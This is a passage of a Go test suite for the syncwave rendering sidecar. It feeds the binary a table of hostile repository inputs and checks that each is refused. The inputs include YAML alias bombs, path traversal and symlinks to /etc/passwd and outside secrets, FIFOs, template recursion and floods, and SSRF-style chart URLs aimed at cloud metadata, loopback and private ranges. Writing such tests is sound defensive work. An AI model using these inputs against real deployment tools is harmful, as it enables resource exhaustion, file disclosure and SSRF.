package cli

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"maps"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"helm.sh/helm/v3/pkg/chart"
	"helm.sh/helm/v3/pkg/chartutil"
	sigsyaml "sigs.k8s.io/yaml"
)

// The hostile-input table: what a tenant of a shared repo-server could
// commit to hang, crash or exhaust the sidecar, or to make it read outside
// the repository or reach the network. Each case runs the built binary in
// a fresh repository and asserts the exit code, an empty stdout on error, a
// message naming the input, and generous bounds on wall time and peak
// memory: a kill switch, not a benchmark.

const (
	hostileKill   = 150 * time.Second // the process is killed past this
	hostileMaxRSS = 1536 << 20        // peak RSS bound of one case
	hostileBudget = "256Mi"           // SYNCWAVE_MAX_MEMORY of the cases
)

// built are the syncwave binaries the tests built, by build tags: each is
// built once per test run, with the release build's flags (-trimpath,
// CGO_ENABLED=0), so that one cold compile serves them all and plugin's
// sidecar test.
var built sync.Map // tags -> func() (string, error)

// buildSyncwave builds cmd/syncwave with tags (may be empty) once.
func buildSyncwave(t *testing.T, tags string) string {
	t.Helper()
	f, _ := built.LoadOrStore(tags, sync.OnceValues(func() (string, error) {
		dir, err := os.MkdirTemp("", "syncwave-bin-")
		if err != nil {
			return "", err
		}
		bin := filepath.Join(dir, "syncwave")
		args := []string{"build", "-trimpath", "-o", bin}
		if tags != "" {
			args = append(args, "-tags", tags)
		}
		cmd := exec.Command("go", append(args, "../../cmd/syncwave")...)
		cmd.Env = append(os.Environ(), "CGO_ENABLED=0")
		if out, err := cmd.CombinedOutput(); err != nil {
			return "", fmt.Errorf("go %s: %v\n%s", strings.Join(args, " "), err, out)
		}
		return bin, nil
	}))
	bin, err := f.(func() (string, error))()
	if err != nil {
		t.Fatal(err)
	}
	return bin
}

// syncwaveBinary is the release build of cmd/syncwave.
// SYNCWAVE_HOSTILE_BIN runs the table against another build instead (an
// older release, to see which cases it fails).
func syncwaveBinary(t *testing.T) string {
	t.Helper()
	if b := os.Getenv("SYNCWAVE_HOSTILE_BIN"); b != "" {
		return b
	}
	return buildSyncwave(t, "")
}

// A file's content may be one of these markers instead of text.
const (
	fifo    = "\x00FIFO"
	symlink = "\x00SYMLINK:" // + target
	sparse  = "\x00SPARSE:"  // + size in bytes
)

type hostileCase struct {
	name  string
	files map[string]string // repository files; "{{URL}}" is the counting server
	args  string            // default "render ." in repo/
	env   []string
	code  int
	// stderr must contain every one of these (the input named).
	stderr []string
	// stdout, for a case that succeeds, must contain this and not notOut.
	stdout, notOut string
	maxStdout      int // when > 0, stdout must be no longer
	// maxRSS, when > 0, replaces hostileMaxRSS: for a case whose single
	// allocation (sprig's repeat builds its whole string at once) passes the
	// budget before the memory watch can see it. Helm's engine then copies
	// the string into its output, so the peak is about three times it.
	maxRSS int64
}

const chartYAML = "apiVersion: v2\nname: c\nversion: 0.1.0\n"

func cm(name string) string {
	return "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: " + name + "\ndata:\n  a: b\n"
}

func kust(body string) map[string]string {
	return map[string]string{"kustomization.yaml": body, "cm.yaml": cm("x")}
}

func chartOf(tpl string, extra ...string) map[string]string {
	m := map[string]string{"Chart.yaml": chartYAML, "templates/t.yaml": tpl}
	for i := 0; i+1 < len(extra); i += 2 {
		m[extra[i]] = extra[i+1]
	}
	return m
}

// laughs is a YAML alias bomb: 10 levels of 10 aliases, 10^10 nodes.
func laughs(prefix string) string {
	var b strings.Builder
	b.WriteString(prefix)
	indent := prefix[strings.LastIndexByte(prefix, '\n')+1:]
	b.WriteString("l0: &l0 [x, x, x, x, x, x, x, x, x, x]\n")
	for i := 1; i <= 9; i++ {
		fmt.Fprintf(&b, "%sl%d: &l%d [", indent, i, i)
		for j := 0; j < 10; j++ {
			if j > 0 {
				b.WriteString(", ")
			}
			fmt.Fprintf(&b, "*l%d", i-1)
		}
		b.WriteString("]\n")
	}
	return b.String()
}

func deep(n int) string {
	return "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: d}\ndata:\n  x: " + strings.Repeat("[", n) + strings.Repeat("]", n) + "\n"
}

func hostileCases() []hostileCase {
	memErr := []string{"memory budget of 256Mi exceeded", "--max-memory", "SYNCWAVE_MAX_MEMORY"}
	outside := "{{OUTSIDE}}/secret.txt"
	return []hostileCase{
		// 1. The network, through every kustomization field that takes a
		// path or URL, and every Helm input.
		{name: "kustomize patchesStrategicMerge URL", files: kust("resources: [cm.yaml]\npatchesStrategicMerge:\n- {{URL}}/patch.yaml\n"), code: 1, stderr: []string{"kustomization.yaml", "patchesStrategicMerge[0]", "remote"}},
		{name: "kustomize resources URL", files: kust("resources: [{{URL}}/cm.yaml]\n"), code: 1, stderr: []string{"kustomization.yaml", "resources[0]", "remote"}},
		{name: "kustomize bases URL", files: kust("resources: [cm.yaml]\nbases: [{{URL}}/base]\n"), code: 1, stderr: []string{"kustomization.yaml", "resources[1]", "remote"}},
		{name: "kustomize git base over http", files: kust("resources: [cm.yaml, '{{URL}}/repo.git//base?ref=main']\n"), code: 1, stderr: []string{"kustomization.yaml", "resources[1]", "remote"}},
		{name: "kustomize components URL", files: kust("resources: [cm.yaml]\ncomponents: [{{URL}}/comp]\n"), code: 1, stderr: []string{"components[0]", "remote"}},
		{name: "kustomize crds URL", files: kust("resources: [cm.yaml]\ncrds: [{{URL}}/crd.yaml]\n"), code: 1, stderr: []string{"crds[0]", "remote"}},
		{name: "kustomize patches path URL", files: kust("resources: [cm.yaml]\npatches:\n- path: {{URL}}/p.yaml\n"), code: 1, stderr: []string{"patches[0]", "remote"}},
		{name: "kustomize patchesJson6902 URL", files: kust("resources: [cm.yaml]\npatchesJson6902:\n- target: {version: v1, kind: ConfigMap, name: x}\n  path: {{URL}}/p.json\n"), code: 1, stderr: []string{"patchesJson6902[0]", "remote"}},
		{name: "kustomize replacements path URL", files: kust("resources: [cm.yaml]\nreplacements:\n- path: {{URL}}/r.yaml\n"), code: 1, stderr: []string{"replacements[0]", "remote"}},
		{name: "kustomize configMapGenerator files URL", files: kust("resources: [cm.yaml]\nconfigMapGenerator:\n- name: g\n  files: [k={{URL}}/f]\n"), code: 1, stderr: []string{"configMapGenerator[0].files[0]", "remote"}},
		{name: "kustomize configMapGenerator envs URL", files: kust("resources: [cm.yaml]\nconfigMapGenerator:\n- name: g\n  envs: [{{URL}}/e.env]\n"), code: 1, stderr: []string{"configMapGenerator[0].envs[0]", "remote"}},
		{name: "kustomize secretGenerator env URL", files: kust("resources: [cm.yaml]\nsecretGenerator:\n- name: g\n  env: {{URL}}/e.env\n"), code: 1, stderr: []string{"secretGenerator[0].envs[0]", "remote"}},
		{name: "kustomize openapi path URL", files: kust("resources: [cm.yaml]\nopenapi:\n  path: {{URL}}/schema.json\n"), code: 1, stderr: []string{"openapi.path", "remote"}},
		{name: "kustomize configurations URL", files: kust("resources: [cm.yaml]\nconfigurations: [{{URL}}/c.yaml]\n"), code: 1, stderr: []string{"configurations[0]", "remote"}},
		{name: "kustomize transformers URL", files: kust("resources: [cm.yaml]\ntransformers: [{{URL}}/t.yaml]\n"), code: 1, stderr: []string{"transformers[0]", "remote"}},
		{name: "kustomize generators URL", files: kust("resources: [cm.yaml]\ngenerators: [{{URL}}/g.yaml]\n"), code: 1, stderr: []string{"generators[0]", "remote"}},
		{name: "kustomize helmCharts repo", files: kust("helmCharts:\n- name: c\n  repo: {{URL}}/charts\n  version: 1.0.0\n"), code: 1, stderr: []string{"kustomization.yaml", "helmCharts is not supported"}},
		{name: "kustomize helmChartInflationGenerator", files: kust("helmChartInflationGenerator:\n- chartName: c\n  chartRepoUrl: {{URL}}/charts\n"), code: 1, stderr: []string{"kustomization.yaml", "helmCharts is not supported"}},
		{name: "helm --values URL", files: chartOf(cm("x")), args: "render --values {{URL}}/v.yaml .", code: 1, stderr: []string{"value file {{URL}}/v.yaml", "URLs are not allowed"}},
		{name: "helm valueFiles URL in syncwave.yaml", files: chartOf(cm("x"), "syncwave.yaml", "apiVersion: syncwave.io/v1alpha1\nkind: SyncOrder\nsources:\n- helm: {path: ., valueFiles: ['{{URL}}/v.yaml']}\n"), code: 1, stderr: []string{"{{URL}}/v.yaml"}},
		{name: "helm dependency repository not vendored", files: chartOf(cm("x"), "Chart.yaml", chartYAML+"dependencies:\n- name: dep\n  version: 1.0.0\n  repository: {{URL}}/charts\n"), code: 1, stderr: []string{"dep", "syncwave init"}},
		{name: "helm getHostByName", files: chartOf("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\ndata: {ip: '{{ getHostByName \"localhost\" }}'}\n"), code: 0, stdout: "ip: ''", notOut: "127.0.0.1"},
		{name: "generate with a kustomize URL patch", files: kust("resources: [cm.yaml]\npatchesStrategicMerge:\n- {{URL}}/patch.yaml\n"), args: "generate", code: 1, stderr: []string{"patchesStrategicMerge[0]"}},

		// Reading outside the repository.
		{name: "value file symlink to outside", files: chartOf(cm("x"), "v.yaml", symlink+outside), args: "render -f v.yaml .", code: 1, stderr: []string{"v.yaml", "outside the repository root"}},
		{name: "value file ../", files: chartOf(cm("x")), args: "render -f ../outside/secret.txt .", code: 1, stderr: []string{"../outside/secret.txt", "repository root"}},
		{name: "value file absolute is repo-relative", files: chartOf(cm("x")), args: "render -f /etc/passwd .", code: 1, stderr: []string{"/etc/passwd"}},
		{name: "value file symlink to /dev/zero", files: chartOf(cm("x"), "v.yaml", symlink+"/dev/zero"), args: "render -f v.yaml .", code: 1, stderr: []string{"v.yaml", "outside the repository root"}},
		{name: "helm .Files.Get ../", files: chartOf("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\ndata: {s: {{ .Files.Get \"../outside/secret.txt\" | quote }}}\n"), code: 0, stdout: "s: \"\"", notOut: "TOPSECRET"},
		{name: "helm .Files.Glob ../", files: chartOf("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\ndata: {s: {{ range $p, $_ := .Files.Glob \"../**\" }}{{ $p }}{{ end }}x}\n"), code: 0, stdout: "s: x", notOut: "secret"},
		{name: "helm lookup", files: chartOf("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\ndata: {n: '{{ len (lookup \"v1\" \"Secret\" \"kube-system\" \"\") }}'}\n"), code: 0, stdout: "n: '0'"},
		{name: "helm env function", files: chartOf("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\ndata: {h: '{{ env \"HOME\" }}'}\n"), code: 1, stderr: []string{"templates/t.yaml", "env"}},
		{name: "helm expandenv function", files: chartOf("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\ndata: {h: '{{ expandenv \"$HOME\" }}'}\n"), code: 1, stderr: []string{"templates/t.yaml", "expandenv"}},
		{name: "helm chart template symlink to outside", files: chartOf(cm("x"), "templates/s.yaml", symlink+outside), code: 1, stderr: []string{"templates/s.yaml", "outside the repository root"}},
		{name: "helm file dependency ../..", files: chartOf(cm("x"), "Chart.yaml", chartYAML+"dependencies:\n- name: dep\n  version: 0.1.0\n  repository: file://../../outside\n"), code: 1, stderr: []string{"dep", "repository root"}},
		{name: "helm file dependency on itself", files: chartOf(cm("x"), "Chart.yaml", "apiVersion: v2\nname: dep\nversion: 0.1.0\ndependencies:\n- name: dep\n  version: 0.1.0\n  repository: file://.\n"), code: 1, stderr: []string{"dep"}},
		{name: "kustomize ../../ base", files: kust("resources: [cm.yaml, ../../outside]\n"), code: 1, stderr: []string{"resources[1]", "repository root"}},
		{name: "kustomize absolute resource", files: kust("resources: [/etc/passwd]\n"), code: 1, stderr: []string{"resources[0]", "absolute paths are not supported"}},
		{name: "kustomize resource symlink to outside", files: map[string]string{"kustomization.yaml": "resources: [s.yaml]\n", "s.yaml": symlink + outside}, code: 1, stderr: []string{"resources[0]", "repository root"}},
		{name: "kustomize configMapGenerator file outside", files: kust("resources: [cm.yaml]\nconfigMapGenerator:\n- name: g\n  files: [../outside/secret.txt]\n"), code: 1, stderr: []string{"configMapGenerator[0].files[0]", "repository root"}},
		{name: "kustomize base cycle", files: map[string]string{"kustomization.yaml": "resources: [a]\n", "a/kustomization.yaml": "resources: [../b]\n", "b/kustomization.yaml": "resources: [../a]\n"}, code: 1, stderr: []string{"cycle"}},
		{name: "kustomize exec plugin", files: kust("resources: [cm.yaml]\ntransformers: [t.yaml]\n"), code: 1, stderr: []string{"transformers[0]"}},
		{name: "directory symlink to outside", files: map[string]string{"a.yaml": symlink + outside}, code: 1, stderr: []string{"a.yaml", "outside the repository root"}},
		{name: "syncwave.yaml symlink to outside", files: map[string]string{"a.yaml": cm("a"), "syncwave.yaml": symlink + outside}, code: 1, stderr: []string{"syncwave.yaml"}},
		{name: "--order outside", files: map[string]string{"a.yaml": cm("a")}, args: "render --order ../outside/secret.txt .", code: 1, stderr: []string{"secret.txt", "outside the repository root"}},
		{name: "syncwave.yaml symlink loop", files: map[string]string{"a.yaml": cm("a"), "syncwave.yaml": symlink + "loop.yaml", "loop.yaml": symlink + "syncwave.yaml"}, code: 1, stderr: []string{"syncwave.yaml"}},

		// Hangs: non-regular files.
		{name: "FIFO syncwave.yaml", files: map[string]string{"a.yaml": cm("a"), "syncwave.yaml": fifo}, code: 1, stderr: []string{"syncwave.yaml", "not a regular file"}},
		{name: "FIFO .helmignore", files: chartOf(cm("x"), ".helmignore", fifo), code: 1, stderr: []string{".helmignore", "not a regular file"}},
		{name: "FIFO Chart.yaml", files: chartOf(cm("x"), "Chart.yaml", fifo), code: 1, stderr: []string{"Chart.yaml"}},
		{name: "FIFO chart template", files: chartOf(cm("x"), "templates/f.yaml", fifo), code: 1, stderr: []string{"templates/f.yaml", "irregular"}},
		{name: "FIFO value file", files: chartOf(cm("x"), "v.yaml", fifo), args: "render -f v.yaml .", code: 1, stderr: []string{"v.yaml", "irregular"}},
		{name: "FIFO value file outside the chart", files: map[string]string{"c/Chart.yaml": chartYAML, "c/templates/t.yaml": cm("x"), "v.yaml": fifo}, args: "render --repo-root . -f /v.yaml c", code: 1, stderr: []string{"v.yaml", "not a regular file"}},
		{name: "FIFO kustomization.yaml", files: map[string]string{"kustomization.yaml": fifo, "cm.yaml": cm("x"), "syncwave.yaml": "apiVersion: syncwave.io/v1alpha1\nkind: SyncOrder\nsources: [{kustomize: {path: .}}]\n"}, code: 1, stderr: []string{"kustomization.yaml", "not a regular file"}},
		{name: "FIFO kustomize resource", files: map[string]string{"kustomization.yaml": "resources: [f.yaml]\n", "f.yaml": fifo}, code: 1, stderr: []string{"f.yaml", "not a regular file"}},
		{name: "FIFO kustomize patch", files: kust("resources: [cm.yaml]\npatches:\n- path: p.yaml\n"), code: 1, stderr: []string{"p.yaml"}},
		{name: "FIFO directory manifest", files: map[string]string{"a.yaml": cm("a"), "b.yaml": fifo}, code: 1, stderr: []string{"b.yaml", "not a regular file"}},
		{name: "symlink to a FIFO in the repository", files: map[string]string{"a.yaml": cm("a"), "f": fifo, "b.yaml": symlink + "f"}, code: 1, stderr: []string{"b.yaml", "not a regular file"}},
		{name: "generate with a FIFO syncwave.yaml", files: map[string]string{"a.yaml": cm("a"), "syncwave.yaml": fifo}, args: "generate", code: 1, stderr: []string{"syncwave.yaml", "not a regular file"}},
		{name: "parameters with a FIFO values.yaml", files: chartOf(cm("x"), "values.yaml", fifo), args: "parameters", code: 0, stderr: []string{"values.yaml", "not a regular file"}},

		// Memory and time.
		{name: "helm tpl recursion", files: chartOf("{{ tpl .Values.a . }}\n", "values.yaml", "a: '{{ tpl .Values.a . }}'\n"), code: 1, stderr: memErr},
		{name: "helm include recursion", files: chartOf("{{ define \"r\" }}{{ include \"r\" . }}{{ end }}{{ include \"r\" . }}\n"), code: 1, stderr: []string{"nested reference", "r"}},
		{name: "helm range until flood", files: chartOf("{{ range until 100000000 }}xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\n{{ end }}"), code: 1, stderr: memErr},
		{name: "helm huge until", files: chartOf("{{ range until 2000000000 }}{{ end }}"), code: 1, stderr: memErr},
		{name: "helm repeat flood", files: chartOf("{{ repeat 100000000 \"xxxxxxxxxx\" }}"), code: 1, stderr: memErr, maxRSS: 4 << 30},
		{name: "plan with an output flood", files: chartOf("{{ range until 100000000 }}xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\n{{ end }}"), args: "plan .", code: 1, stderr: append([]string{"plan ."}, memErr...)},
		{name: "generate with an output flood", files: chartOf("{{ range until 100000000 }}xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\n{{ end }}"), args: "generate", code: 1, stderr: append([]string{"generate"}, memErr...)},
		{name: "helm values.yaml alias bomb", files: chartOf(cm("x"), "values.yaml", laughs("")), code: 1, stderr: []string{"values.yaml"}},
		{name: "helm value file alias bomb", files: chartOf(cm("x"), "v.yaml", laughs("")), args: "render -f v.yaml .", code: 1, stderr: []string{"v.yaml"}},
		{name: "kustomize resource alias bomb", files: map[string]string{"kustomization.yaml": "resources: [bomb.yaml]\n", "bomb.yaml": laughs("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: b}\ndata:\n  k: v\nx:\n  ")}, code: 1, stderr: []string{"bomb.yaml", "alias bomb"}},
		{name: "kustomization alias bomb", files: map[string]string{"kustomization.yaml": "resources: [cm.yaml]\n" + laughs("commonAnnotations: {}\nx:\n  "), "cm.yaml": cm("x")}, code: 1, stderr: []string{"kustomization.yaml", "alias bomb"}},
		{name: "directory alias bomb", files: map[string]string{"bomb.yaml": laughs("apiVersion: v1\nkind: ConfigMap\nx:\n  ") + "metadata:\n  name: b\n  labels:\n    z: *l9\n"}, code: 1, stderr: []string{"bomb.yaml", "excessive aliasing"}},
		{name: "parameters with an alias-bomb values.yaml", files: chartOf(cm("x"), "values.yaml", laughs("")), args: "parameters", code: 0, stderr: []string{"values.yaml", "skipped"}, maxStdout: 4096},
		{name: "deep nesting in a manifest", files: map[string]string{"d.yaml": deep(100000)}, code: 1, stderr: []string{"d.yaml"}},
		{name: "deep nesting in values.yaml", files: chartOf(cm("x"), "values.yaml", "a: "+strings.Repeat("[", 100000)+strings.Repeat("]", 100000)+"\n"), code: 1, stderr: []string{"values.yaml"}},
		{name: "deep nesting in a kustomize resource", files: map[string]string{"kustomization.yaml": "resources: [d.yaml]\n", "d.yaml": deep(100000)}, code: 1, stderr: []string{"d.yaml"}},
		{name: "huge manifest file", files: map[string]string{"a.yaml": cm("a"), "huge.yaml": sparse + "300000000"}, code: 1, stderr: []string{"huge.yaml", "larger than"}},
		{name: "huge value file", files: chartOf(cm("x"), "v.yaml", sparse+"300000000"), args: "render -f v.yaml .", code: 1, stderr: []string{"v.yaml", "larger than"}},
		{name: "huge kustomize resource", files: map[string]string{"kustomization.yaml": "resources: [huge.yaml]\n", "huge.yaml": sparse + "300000000"}, code: 1, stderr: []string{"huge.yaml", "larger than"}},
		{name: "output limit", files: chartOf("{{ range until 20000 }}---\n{{ $.Files.Get \"big.txt\" | printf \"apiVersion: v1\\nkind: ConfigMap\\nmetadata: {name: c%d}\\ndata: {a: %q}\\n\" . }}\n{{ end }}", "big.txt", "x"), env: []string{"SYNCWAVE_MAX_OUTPUT=1Mi"}, code: 1, stderr: []string{"render .", "output exceeds the limit of 1Mi", "SYNCWAVE_MAX_OUTPUT"}},
		{name: "--timeout", files: chartOf("{{ range until 3000000 }}{{ sha256sum \"x\" }}{{ end }}"), args: "render --timeout 200ms .", code: 1, stderr: []string{"render .", "rendering took longer than 200ms"}},
		{name: "bad --max-memory", files: map[string]string{"a.yaml": cm("a")}, args: "render --max-memory lots .", code: 2, stderr: []string{"--max-memory", "lots"}},

		// Smaller defects.
		{name: "wave after the top of the range", files: map[string]string{"a.yaml": cm("a"), "b.yaml": cm("b"), "syncwave.yaml": "apiVersion: syncwave.io/v1alpha1\nkind: SyncOrder\ngroups:\n- {name: big, wave: 9223372036854775807, select: [{name: a}]}\n- {name: after, after: [big], select: [{name: b}]}\n"}, code: 1, stderr: []string{"syncwave.yaml", "after", "highest wave Argo CD reads"}},
		{name: "chart required", files: chartOf("{{ required \"the chart requires image.tag\" .Values.image.tag }}", "values.yaml", "image: {}\n"), code: 1, stderr: []string{"the chart requires image.tag"}},
		{name: "10000 unknown plugin parameters", files: map[string]string{"a.yaml": cm("a")}, args: "generate", env: manyParams(10000), code: 1, stderr: []string{"unknown parameters PARAM_P0", "and 9990 more"}},
		{name: "kustomize deprecated vars warn", files: kust("resources: [cm.yaml]\nvars:\n- name: NAME\n  objref: {kind: ConfigMap, name: x, apiVersion: v1}\n"), code: 0, stdout: "name: x", stderr: []string{"Warning: kustomization.yaml: 'vars' is deprecated", "Warning: kustomize: well-defined vars that were never replaced: NAME"}},
	}
}

// manyParams is n PARAM_* variables naming unknown parameters.
func manyParams(n int) []string {
	env := make([]string, n)
	for i := range env {
		env[i] = fmt.Sprintf("PARAM_P%d=x", i)
	}
	return env
}

func TestHostileInputs(t *testing.T) {
	if runtime.GOOS != "linux" {
		t.Skip("FIFOs and rusage: linux only")
	}
	bin := syncwaveBinary(t)
	var hits atomic.Int64
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		fmt.Fprintf(w, "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: fetched}\n")
	}))
	defer srv.Close()
	cases := hostileCases()
	if len(cases) < 60 {
		t.Fatalf("only %d hostile cases", len(cases))
	}
	var worst struct {
		sync.Mutex
		name string
		rss  int64
	}
	// The cases run in parallel (each is a process of its own, with its own
	// temporary tree and peak RSS); the group returns when all are done.
	t.Run("case", func(t *testing.T) {
		for _, tc := range cases {
			t.Run(tc.name, func(t *testing.T) {
				t.Parallel()
				base := t.TempDir()
				repo, out := filepath.Join(base, "repo"), filepath.Join(base, "outside")
				subst := strings.NewReplacer("{{URL}}", srv.URL, "{{OUTSIDE}}", out)
				if err := os.MkdirAll(out, 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(filepath.Join(out, "secret.txt"), []byte("TOPSECRET: x\n"), 0o644); err != nil {
					t.Fatal(err)
				}
				writeTree(t, repo, tc.files, subst)
				args := tc.args
				if args == "" {
					args = "render ."
				}
				env := []string{"PATH=" + os.Getenv("PATH"), "HOME=" + base, "SYNCWAVE_MAX_MEMORY=" + hostileBudget, "SYNCWAVE_TIMEOUT=120s",
					"ARGOCD_APP_NAME=app", "ARGOCD_APP_NAMESPACE=ns", "ARGOCD_APP_SOURCE_PATH=."}
				for _, e := range tc.env {
					env = append(env, subst.Replace(e))
				}
				kill := hostileKill
				if d, err := time.ParseDuration(os.Getenv("SYNCWAVE_HOSTILE_KILL")); err == nil {
					kill = d
				}
				r := runBounded(t, bin, repo, env, kill, strings.Fields(subst.Replace(args))...)
				stdout, stderr, code, took, rss := r.stdout, r.stderr, r.code, r.took, r.rss
				worst.Lock()
				if rss > worst.rss {
					worst.name, worst.rss = tc.name, rss
				}
				worst.Unlock()
				t.Logf("exit %d in %s, peak RSS %d MiB", code, took.Round(time.Millisecond), rss>>20)
				errText := stderr.String()
				if code != tc.code {
					t.Errorf("exit %d, want %d; stderr:\n%.2000s", code, tc.code, errText)
				}
				if code != 0 && stdout.Len() > 0 {
					t.Errorf("exit %d with %d bytes on stdout", code, stdout.Len())
				}
				for _, want := range tc.stderr {
					if want = subst.Replace(want); !strings.Contains(errText, want) {
						t.Errorf("stderr does not contain %q:\n%.2000s", want, errText)
					}
				}
				for _, crash := range []string{"goroutine ", "fatal error", "panic:", "SIGSEGV"} {
					if strings.Contains(errText, crash) {
						t.Errorf("stderr has a Go crash (%q):\n%.2000s", crash, errText)
					}
				}
				if len(errText) > 64<<10 {
					t.Errorf("stderr is %d bytes", len(errText))
				}
				if tc.stdout != "" && !strings.Contains(stdout.String(), tc.stdout) {
					t.Errorf("stdout does not contain %q:\n%.2000s", tc.stdout, stdout.String())
				}
				if tc.notOut != "" && strings.Contains(stdout.String(), tc.notOut) {
					t.Errorf("stdout contains %q", tc.notOut)
				}
				if tc.maxStdout > 0 && stdout.Len() > tc.maxStdout {
					t.Errorf("stdout is %d bytes, want at most %d", stdout.Len(), tc.maxStdout)
				}
				bound := int64(hostileMaxRSS)
				if tc.maxRSS > 0 {
					bound = tc.maxRSS
				}
				if int64(rss) > bound {
					t.Errorf("peak RSS %d MiB, bound %d MiB", rss>>20, bound>>20)
				}
			})
		}
	})
	if hits.Load() != 0 {
		t.Errorf("the local HTTP server received %d requests; rendering must never use the network", hits.Load())
	}
	t.Logf("worst peak RSS: %d MiB (%s)", worst.rss>>20, worst.name)
}

func writeTree(t *testing.T, dir string, files map[string]string, subst *strings.Replacer) {
	t.Helper()
	for name, content := range files {
		p := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		var err error
		switch {
		case content == fifo:
			err = syscall.Mkfifo(p, 0o644)
		case strings.HasPrefix(content, symlink):
			err = os.Symlink(subst.Replace(strings.TrimPrefix(content, symlink)), p)
		case strings.HasPrefix(content, sparse):
			var size int64
			fmt.Sscan(strings.TrimPrefix(content, sparse), &size)
			var f *os.File
			if f, err = os.Create(p); err == nil {
				err = f.Truncate(size)
				f.Close()
			}
		default:
			err = os.WriteFile(p, []byte(subst.Replace(content)), 0o644)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
}

// TestHostileDownloads: classes 3 (downloads outside every budget) and 7
// (where the sidecar may connect), as a tenant of a shared repo-server
// would try them through a chart's dependencies, run through the binary
// as the sidecar runs generate, each within the memory budget
// (hostileBudget) as the peak RSS of the process.
func TestHostileDownloads(t *testing.T) {
	if runtime.GOOS != "linux" {
		t.Skip("rusage: linux only")
	}
	bin := syncwaveBinary(t)
	silent, silentCA, silentHits := silentServer(t)
	silentHost := silent.Listener.Addr().String()
	big := strings.Repeat("# an index far too large for the budget of its download\n", (9<<20)/56)
	var pages atomic.Int64
	huge, hugeCA := tlsServer(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch {
		case strings.HasSuffix(r.URL.Path, "/index.yaml"):
			for i := 0; i < len(big); i += 1 << 16 {
				if _, err := w.Write([]byte(big[i:min(i+1<<16, len(big))])); err != nil {
					return
				}
			}
		case strings.HasSuffix(r.URL.Path, "/tags/list"):
			pages.Add(1)
			w.Header().Set("Link", fmt.Sprintf(`<%s?last=%d>; rel="next"`, r.URL.Path, pages.Load()))
			fmt.Fprintf(w, `{"name":"charts/dep","tags":["0.0.%d"]}`, pages.Load())
		case r.URL.Path == "/v2/":
		default:
			http.NotFound(w, r)
		}
	}))
	hugeHost := huge.Listener.Addr().String()
	status, statusCA, authSeen := rawStatusServer(t, "403 TENANT-CHOSEN-REASON", "SECRET-BODY-FRAGMENT")
	dir := t.TempDir()
	caFile := filepath.Join(dir, "cas.pem")
	var pems []byte
	for _, f := range []string{silentCA, hugeCA, statusCA} {
		b, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		pems = append(pems, b...)
	}
	if err := os.WriteFile(caFile, pems, 0o644); err != nil {
		t.Fatal(err)
	}
	reposYAML := filepath.Join(dir, "repositories.yaml")
	var repos strings.Builder
	repos.WriteString("repositories:\n")
	for _, u := range []string{silent.URL + "/charts", huge.URL + "/charts", status.URL + "/team"} {
		fmt.Fprintf(&repos, "  - url: %s\n    caFile: %s\n", u, caFile)
	}
	if err := os.WriteFile(reposYAML, []byte(repos.String()), 0o644); err != nil {
		t.Fatal(err)
	}
	allow := "SYNCWAVE_ALLOW_HOSTS=127.0.0.1"
	cases := []struct {
		name, repository, version string
		env                       []string
		stderr                    []string
		notStderr                 []string
		maxTook                   time.Duration
	}{
		// 3. Downloads outside every budget.
		{name: "index that never answers", repository: silent.URL + "/charts", env: []string{allow, "SYNCWAVE_TIMEOUT=2s"},
			stderr: []string{"downloading the chart dependencies took longer than 2s", "no complete answer from " + silentHost}, maxTook: 5 * time.Second},
		{name: "registry that never answers", repository: "oci://" + silentHost + "/charts", env: []string{allow, "SYNCWAVE_TIMEOUT=2s"},
			stderr: []string{"downloading the chart dependencies took longer than 2s", "no complete answer from " + silentHost}, maxTook: 5 * time.Second},
		{name: "9 MiB index", repository: huge.URL + "/charts", env: []string{allow},
			stderr: []string{"repository index " + huge.URL + "/charts/index.yaml: larger than 5.3 MiB"}},
		{name: "endless tag list", repository: "oci://" + hugeHost + "/charts", version: "0.x", env: []string{allow},
			stderr: []string{"tag list https://" + hugeHost + "/v2/charts/dep/tags/list: more than 50 pages"}},
		// 7. Where the sidecar may connect.
		{name: "loopback without the allow-list", repository: silent.URL + "/charts",
			stderr: []string{"connect to 127.0.0.1: a loopback address, refused by the sidecar's connect policy", "SYNCWAVE_ALLOW_HOSTS"}},
		{name: "cloud metadata", repository: "https://169.254.169.254/latest/meta-data",
			stderr: []string{"connect to 169.254.169.254: a link-local address, refused"}},
		{name: "cluster service range", repository: "https://10.96.0.1:443/charts", stderr: []string{"connect to 10.96.0.1: a private address, refused"}},
		{name: "plain http", repository: "http://" + silentHost + "/charts", env: []string{"SYNCWAVE_ALLOW_NETWORKS=127.0.0.0/8"},
			stderr: []string{"plain http to " + silentHost + " is refused"}},
		{name: "trailing # takes the path", repository: silent.URL + "/internal/admin?delete=1#", env: []string{allow},
			stderr: []string{"a query or fragment in the URL"}, notStderr: []string{"delete=1"}},
		{name: "status reason and body", repository: status.URL + "/team", env: []string{allow},
			stderr: []string{"403 Forbidden"}, notStderr: []string{"TENANT-CHOSEN-REASON", "SECRET-BODY-FRAGMENT"}},
		{name: "credentials scoped to /team, path ..;", repository: status.URL + "/team/..;/team-b",
